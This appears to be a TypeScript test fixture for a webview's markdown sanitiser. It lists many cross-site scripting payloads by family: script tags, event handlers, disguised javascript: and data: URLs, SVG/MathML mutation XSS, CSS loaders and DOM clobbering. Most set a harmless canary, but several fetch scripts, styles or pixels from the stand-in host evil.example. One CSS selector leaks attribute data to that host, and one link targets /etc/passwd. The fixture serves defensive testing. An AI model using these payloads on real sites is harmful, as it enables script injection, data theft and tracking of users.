/**
 * Cross-site scripting payloads for the webview, by family. Every payload tries to set the canary
 * `window.__xss` (or to call `alert`, which the test page turns into the canary), to load something
 * from the network (evil.example, which the test page never reaches), or to navigate. Collected
 * from the classic filter-evasion lists (OWASP's cheat sheet), DOMPurify's mutation-XSS reports,
 * and markdown-specific forms (links, images, references, fence info strings, autolinks). Every
 * payload that carries script makes it set the canary (or call `alert`), so running is visible.
 */

const scriptTags = [
  '<script>window.__xss=1</script>',
  '<SCRIPT>window.__xss=1</SCRIPT>',
  '<script src="http://evil.example/x.js"></script>',
  '<script/src=data:,window.__xss=1></script>',
  '<<script>script>window.__xss=1<</script>/script>',
  '</script><script>window.__xss=1</script>',
  '<script>alert(1)//<</script>',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '<script type="module">window.__xss=1</script>',
  '<script\x20type="text/javascript">window.__xss=1</script>',
  '<SCRIPT SRC=//evil.example/.j></SCRIPT>',
  '<script>window.__xss=1;document.write("<img src=http://evil.example/w>")</script>',
];

const eventHandlers = [
  '<img src=x onerror=window.__xss=1>',
  '<img src="x" onerror="window.__xss=1">',
  '<IMG SRC=x ONERROR=window.__xss=1>',
  '<svg onload=window.__xss=1>',
  '<svg/onload=window.__xss=1>',
  '<body onload=window.__xss=1>',
  '<div onmouseover="window.__xss=1">hover me</div>',
  '<input autofocus onfocus=window.__xss=1>',
  '<select autofocus onfocus=window.__xss=1></select>',
  '<textarea autofocus onfocus=window.__xss=1></textarea>',
  '<details open ontoggle=window.__xss=1>',
  '<video><source onerror=window.__xss=1></video>',
  '<audio src=x onerror=window.__xss=1>',
  '<marquee onstart=window.__xss=1>',
  '<a href="https://ok.example" onclick="window.__xss=1">click</a>',
  '<button onclick=window.__xss=1>press</button>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<img src=x onerror=&#x61;lert(1)>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058window.__xss=1">',
  '<body onpageshow=window.__xss=1>',
  '<div style="width:100px;height:100px" onpointerenter=window.__xss=1></div>',
];

const dangerousUrls = [
  '[click](javascript:window.__xss=1)',
  '[click](JaVaScRiPt:window.__xss=1)',
  '[click](javas&#99;ript:window.__xss=1)',
  '[click](&#106;avascript:window.__xss=1)',
  '[click](javascript&colon;window.__xss=1)',
  '[click]( javascript:window.__xss=1)',
  '[click](\tjavascript:window.__xss=1)',
  '[click](java%0ascript:window.__xss=1)',
  '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)',
  '[click](data:text/html,<script>window.__xss=1</script>)',
  '[click](vbscript:alert(1))',
  '[click](VBScript:alert(1))',
  '[click](file:///etc/passwd)',
  '[click](//evil.example/path)',
  '[click](/relative/path)',
  '<javascript:window.__xss=1>',
  '<vbscript:alert(1)>',
  '<a href="javascript:window.__xss=1">raw link</a>',
  '<a href="jav&#x09;ascript:window.__xss=1">tab link</a>',
  '<a href=" &#14; javascript:window.__xss=1">control char link</a>',
  '<form action="javascript:window.__xss=1"><button>go</button></form>',
  '<isindex action=javascript:window.__xss=1 type=image>',
];

const markdownForms = [
  '![alt](javascript:window.__xss=1)',
  '![tracker](http://evil.example/pixel.png)',
  '![tracker](https://evil.example/pixel.png "title")',
  '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIi8+)',
  '![x](//evil.example/a.png)',
  '[![img](javascript:window.__xss=1)](javascript:window.__xss=1)',
  '[<img src=x onerror=window.__xss=1>](https://ok.example)',
  '[x](https://ok.example "title onmouseover=window.__xss=1")',
  '[x](https://ok.example"onmouseover="window.__xss=1)',
  '<https://ok.example"onmouseover="window.__xss=1>',
  '![x"onerror="window.__xss=1](x)',
  '[ref link][evil]\n\n[evil]: javascript:window.__xss=1',
  '[ref image]\n\n![ref image][img]\n\n[img]: http://evil.example/ref.png',
  '`<script>window.__xss=1</script>`',
  '```\n</code></pre><script>window.__xss=1</script>\n```',
  '```"><img src=x onerror=window.__xss=1>\ncode\n```',
  '```ts onload=window.__xss=1\nconst a = 1;\n```',
  '```html\n<script>window.__xss=1</script>\n```',
  '    <script>window.__xss=1</script>',
  '> <img src=x onerror=window.__xss=1>',
  '| a | <img src=x onerror=window.__xss=1> |\n|---|---|\n| <script>window.__xss=1</script> | b |',
  '* [list](javascript:window.__xss=1)\n* item',
  'www.evil.example/<script>window.__xss=1</script>',
  'mailto:x@evil.example?body=<script>window.__xss=1</script>',
];

const svgAndMath = [
  '<svg><script>window.__xss=1</script></svg>',
  '<svg><a xlink:href="javascript:window.__xss=1"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:window.__xss=1 /></svg>',
  '<svg><foreignObject><iframe src="javascript:window.__xss=1"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=window.__xss=1 /></svg>#x" />',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '<math href="javascript:window.__xss=1">CLICK</math>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:window.__xss=1">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=window.__xss=1 src=1>">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">',
  '<math><mi xlink:href="data:x,<script>window.__xss=1</script>">',
];

const entities = [
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.__xss=1&#62;',
  '&#x3C;img src=x onerror=window.__xss=1&#x3E;',
  '\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e',
  '%3Cscript%3Ewindow.__xss=1%3C/script%3E',
  '&lt;img src=x onerror=window.__xss=1&gt;',
  '<img src="x" alt="&quot; onerror=&quot;window.__xss=1">',
  '&#0000060script&#0000062window.__xss=1',
];

const cssInjection = [
  '<style>body{background:url(http://evil.example/css-bg.png)}</style>',
  '<style>@import url(http://evil.example/import.css);</style>',
  '<link rel=stylesheet href=http://evil.example/x.css>',
  '<div style="background:url(http://evil.example/inline.png)">styled</div>',
  '<div style="background:url(javascript:window.__xss=1)">styled</div>',
  '<p style="behavior:url(x.htc)">old IE</p>',
  '<img src=x style=x:expression(window.__xss=1)>',
  '<span style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</span>',
  '<div class="composer banner">class spoof</div>',
  '<font face="</style><img src=x onerror=window.__xss=1>">',
];

const attributeBreakouts = [
  '" onmouseover="window.__xss=1',
  "' onmouseover='window.__xss=1",
  '"><script>window.__xss=1</script>',
  "'><img src=x onerror=window.__xss=1>",
  '` onerror=window.__xss=1 `',
  '</textarea><script>window.__xss=1</script>',
  '</title><script>window.__xss=1</script>',
  '--><script>window.__xss=1</script>',
  '<!--<img src="--><img src=x onerror=window.__xss=1>',
  ']]><script>window.__xss=1</script>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<noembed><img title="</noembed><img src=x onerror=window.__xss=1>">',
  '<xmp><img src=x onerror=window.__xss=1></xmp>',
  '<template><script>window.__xss=1</script></template>',
  '<IMG """><SCRIPT>window.__xss=1</SCRIPT>">',
  '<plaintext><img src=x onerror=window.__xss=1>',
];

const framesAndNavigation = [
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<iframe src="http://evil.example/frame"></iframe>',
  '<object data="javascript:window.__xss=1"></object>',
  '<object data="http://evil.example/x.swf"></object>',
  '<embed src="javascript:window.__xss=1">',
  '<embed src="http://evil.example/x.swf">',
  '<base href="http://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
  '<frameset onload=window.__xss=1>',
  '<portal src="http://evil.example/"></portal>',
  '<applet code="x.class"></applet>',
];

const domClobbering = [
  '<img name="getElementById">',
  '<form id="app"></form>',
  '<a id="acquireVsCodeApi" href="https://ok.example">a</a>',
  '<img name="body">',
  '<a id="__xss" href="https://ok.example">clobber</a>',
  '<form name="__xss"><input name="x"></form>',
  '<img id="__xss" src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=">',
  '<iframe name="__xss"></iframe>',
  '<embed name="__xss">',
  '<object id="__xss"></object>',
];

/** `data:` URLs in every place one can stand: links, images, frames, scripts, styles, refreshes. */
const dataUrls = [
  '[click](data:text/html;charset=utf-8,%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E)',
  '[click](DATA:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)',
  '[click](data:application/javascript,window.__xss=1)',
  '<data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">raw data link</a>',
  '<a href="  data:text/html,<script>window.__xss=1</script>">spaced data link</a>',
  '<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg=="></object>',
  '<script src="data:text/javascript,window.__xss=1"></script>',
  '<link rel=stylesheet href="data:text/css,body{background:url(http://evil.example/data-css.png)}">',
  '![x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)',
  '![x](data:image/svg+xml,%3Csvg%20onload%3Dwindow.__xss%3D1%3E)',
  '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9feHNzPTEiLz4=">',
  '<img src="data:image/png;base64,iVBORw0KGgo=" onload=window.__xss=1 onerror=window.__xss=1>',
  '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">',
  '<form><button formaction="data:text/html,<script>window.__xss=1</script>">go</button></form>',
];

/** `javascript:` disguised by case, entities, white space, control characters and comments. */
const disguisedJavascript = [
  '[click](JAVASCRIPT:window.__xss=1)',
  '[click](<javascript:window.__xss=1>)',
  '[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;window.__xss=1)',
  '[click](javascript&#58;window.__xss=1)',
  '[click](javascript://%0Awindow.__xss=1)',
  '[click][js]\n\n[js]: <javascript:window.__xss=1>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">decimal entities</a>',
  '<a href="javascript&#x3A;window.__xss=1">entity colon</a>',
  '<a href="&#x20;javascript:window.__xss=1">leading space entity</a>',
  '<a href="java\nscript:window.__xss=1">newline</a>',
  '<a href="jav\tascript:window.__xss=1">tab</a>',
  '<a href="\x01javascript:window.__xss=1">control character</a>',
  '<a href="javascript://%0Awindow.__xss=1">comment and newline</a>',
  '<a href="JaVaScRiPt:window.__xss=1">mixed case</a>',
];

/** More SVG, MathML and CSS: namespace confusion, animation of links, and styles that fetch. */
const namespacesAndStyles = [
  '<math><annotation-xml encoding="text/html"><img src=x onerror=window.__xss=1></annotation-xml></math>',
  '<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>window.__xss=1</script></annotation-xml></semantics></math>',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=window.__xss=1>">',
  '<svg><animate attributeName=href values=javascript:window.__xss=1 /><a id=x><text x=20 y=20>click</text></a></svg>',
  '<svg><image href="http://evil.example/svg-image.png"/></svg>',
  '<svg><script href="data:,window.__xss=1"/></svg>',
  '<svg><style>@import url(http://evil.example/svg.css)</style></svg>',
  '<style>@font-face{font-family:x;src:url(http://evil.example/font.woff)}body{font-family:x}</style>',
  '<style>a[href^="h"]{background:url(http://evil.example/leak)}</style>',
  '<div style="cursor:url(http://evil.example/cursor.cur),auto">cursor</div>',
  '<style>*{background-image:image-set("http://evil.example/set.png" 1x)}</style>',
  '<div style="list-style-image:url(http://evil.example/bullet.png)"><li>item</li></div>',
  '&lt;svg onload=window.__xss=1&gt;',
  '&amp;lt;script&amp;gt;window.__xss=1&amp;lt;/script&amp;gt;',
  '\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e',
  '[x](https://ok.example/?q=<script>window.__xss=1</script>)',
  '[![x](http://evil.example/nested.png)](http://evil.example/)',
  '~~~ <img src=x onerror=window.__xss=1>\ncode\n~~~',
];

export const xssPayloads: readonly string[] = [
  ...scriptTags,
  ...eventHandlers,
  ...dangerousUrls,
  ...markdownForms,
  ...svgAndMath,
  ...entities,
  ...cssInjection,
  ...attributeBreakouts,
  ...framesAndNavigation,
  ...domClobbering,
  ...dataUrls,
  ...disguisedJavascript,
  ...namespacesAndStyles,
];
